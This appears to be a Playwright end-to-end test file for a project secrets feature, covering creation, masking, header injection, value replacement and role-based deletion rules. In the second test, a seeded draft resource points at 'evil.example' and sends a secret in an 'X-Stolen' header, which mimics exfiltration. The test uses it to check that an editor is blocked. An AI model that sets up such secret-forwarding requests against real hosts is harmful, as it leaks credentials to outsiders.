import { expect, test } from "./fixtures/app.ts";
import { inviteMember } from "./fixtures/invite-member.ts";
import { seedDraft } from "./fixtures/seed-resource.ts";
import { callsSeen } from "./fixtures/tasklab.ts";
import { Wizard } from "./pages/wizard.ts";

const FIRST = "first-value-of-the-secret-0001";
const SECOND = "second-value-of-the-secret-0002";

test("a secret is asked for where a template names it, travels in a header, is replaced, and can't be deleted while calls use it", async ({
  app,
  projectId,
  signer,
  signedInPage: page,
}) => {
  test.setTimeout(120_000);
  const received = async () =>
    (await callsSeen(app, { contains: "/open/echo?secrets" })).map(
      (call) => (JSON.stringify(call).match(/(first|second)-value-of-the-secret-000\d/) ?? [])[0],
    );
  const settings = `${app.web}/projects/${projectId}/settings/secrets`;
  await page.goto(settings);
  await expect(page.getByRole("heading", { name: "No secret yet" })).toBeVisible();
  await expect(page.getByText("{{secrets.ACME_KEY}}")).toBeVisible();

  // A template names a secret that isn't there yet.
  const wizard = await Wizard.create(page, app, projectId, "Acme");
  await wizard.choose("User-Level Resource", "API Key");
  await wizard.next("Authorization");
  await page.getByRole("button", { name: "username, password" }).click();
  await wizard.next("Request Details");
  await wizard.fill({ "API Base URL": `${app.tasklab}/northgate/open` });
  await wizard.button("Add header").click();
  await wizard.fill({ "Header name": "X-Acme", "Value of X-Acme": "{{secrets.ACME_KEY}}" });
  await expect(page.getByText("There is no secret named ACME_KEY.")).toBeVisible();
  await page.getByRole("link", { name: "Add Secret ACME_KEY" }).click();
  const dialog = page.getByRole("dialog", { name: "New Secret" });
  await expect(dialog.getByLabel("Name", { exact: true })).toHaveValue("ACME_KEY");
  await dialog.getByLabel("Value", { exact: true }).fill(FIRST);
  await dialog.getByLabel("Description").fill("Acme’s partner key");
  await dialog.getByRole("button", { name: "Add Secret" }).click();
  await expect(dialog).toBeHidden();
  const row = page.getByRole("row").filter({ hasText: "ACME_KEY" });
  await expect(row).toContainText("0001");
  await expect(row).toContainText(/Acme\s*draft/);
  await page.goBack();
  await wizard.isAt("Request Details");
  await expect(page.getByText("There is no secret named ACME_KEY.")).toBeHidden();
  // The menu offers it, masked.
  await wizard.field("Value of X-Acme").fill("");
  await wizard.field("Value of X-Acme").pressSequentially("{{secrets");
  const option = page.getByRole("listbox", { name: "Variables" }).getByRole("group", { name: "Secrets" }).getByRole("option");
  await expect(option).toHaveText(/secrets\.ACME_KEY.*••••••/);
  await page.keyboard.press("Enter");
  await expect(wizard.field("Value of X-Acme")).toHaveValue("{{secrets.ACME_KEY}}");

  await wizard.next("Test and Publish");
  await expect(page.getByText("A secret goes somewhere for the first time.")).toBeVisible();
  await wizard.fill({ Path: "/echo?secrets", Username: "ada", Password: "of-the-test-user" });
  await wizard.sendTest();
  await wizard.passed("API call");
  expect(await received()).toEqual([FIRST]);
  await expect(wizard.lane("API call")).toContainText("•••••• 0001");
  await page.getByRole("switch", { name: "Verify on connect" }).setChecked(true);
  await wizard.finish("Acme");
  const { resourceId } = wizard;

  await page.goto(settings);
  await expect(row.getByRole("link", { name: "Acme" })).toHaveAttribute("href", `/projects/${projectId}/resources/${resourceId}`);
  await expect(row).not.toContainText("draft");
  await row.getByRole("button", { name: "Delete ACME_KEY" }).click();
  const inUse = page.getByRole("dialog", { name: "ACME_KEY is in use" });
  await expect(inUse.getByRole("link", { name: "Acme" })).toBeVisible();
  await inUse.getByRole("button", { name: "Replace value" }).click();
  const replace = page.getByRole("dialog", { name: "Replace ACME_KEY" });
  await expect(replace.getByLabel("Description")).toHaveValue("Acme’s partner key");
  await replace.getByLabel("Value", { exact: true }).fill(SECOND);
  await replace.getByRole("button", { name: "Save" }).click();
  await expect(replace).toBeHidden();
  await expect(row).toContainText("0002");

  // The gateway runs in another process: its next call uses the new value.
  const connected = await fetch(`${app.gateway}/projects/${projectId}/sdk/resources/${resourceId}/connect`, {
    method: "POST",
    headers: { authorization: `Bearer ${signer.sign({ sub: "user-of-the-secret" })}`, "content-type": "application/json" },
    body: JSON.stringify({ username: "ada", password: "of-the-user" }),
  });
  expect(connected.status, await connected.text()).toBe(200);
  expect(await received()).toEqual([SECOND, FIRST]);
  await expect(page.locator("html")).not.toContainText(/value-of-the-secret/);
});

test("an editor can't send a secret to a host of their choice, and nobody but an admin changes one", async ({
  app,
  admin,
  projectId,
  signedInPage: page,
  browser,
}) => {
  test.setTimeout(120_000);
  const settings = `${app.web}/projects/${projectId}/settings/secrets`;
  await page.goto(settings);
  await page.getByRole("button", { name: "New Secret" }).click();
  const dialog = page.getByRole("dialog", { name: "New Secret" });
  await dialog.getByLabel("Name", { exact: true }).fill("BAD-NAME");
  await dialog.getByLabel("Value", { exact: true }).fill("stays-at-home-0003-abcdef");
  await dialog.getByRole("button", { name: "Add Secret" }).click();
  await expect(dialog.getByText("Start with a letter or _")).toBeVisible();
  await dialog.getByLabel("Name", { exact: true }).fill("STAYS_HOME");
  await dialog.getByRole("button", { name: "Add Secret" }).click();
  await expect(dialog).toBeHidden();

  const { id } = await seedDraft(admin, app, projectId, "Elsewhere", {
    level: "user",
    authType: "api_key",
    apiKeys: [{ name: "key" }],
    request: { baseUrl: "https://evil.example", headers: [{ name: "X-Stolen", value: "{{secrets.STAYS_HOME}}" }] },
  });
  const editor = await inviteMember(page, browser, app, projectId, { role: "Editor", email: "editor-of-secrets@example.com" });
  const theirs = await editor.newPage();
  const wizard = await Wizard.open(theirs, app, projectId, id, "Test and Publish");
  await expect(theirs.getByText("An admin must send this test, or choose Finish.")).toBeVisible();
  await wizard.fill({ key: "mine" });
  await wizard.sendTest();
  await expect(theirs.getByRole("alert").filter({ hasText: "The secret STAYS_HOME has never gone to evil.example" })).toBeVisible();
  await theirs.goto(settings);
  await expect(theirs.getByRole("row").filter({ hasText: "STAYS_HOME" })).toContainText(/Elsewhere\s*draft/);
  await expect(theirs.getByRole("button", { name: /New Secret|Replace|Delete/ })).toHaveCount(0);
  await expect(theirs.locator("html")).not.toContainText("cdef");
  await editor.close();

  // What no call uses may go, with what names it listed.
  await page.goto(settings);
  await page.getByRole("button", { name: "Delete STAYS_HOME" }).click();
  const confirm = page.getByRole("dialog", { name: "Delete STAYS_HOME?" });
  await expect(confirm).toContainText("Elsewhere");
  await confirm.getByRole("button", { name: "Delete secret" }).click();
  await expect(confirm).toBeHidden();
  await expect(page.getByText("STAYS_HOME", { exact: true })).toBeHidden();
});
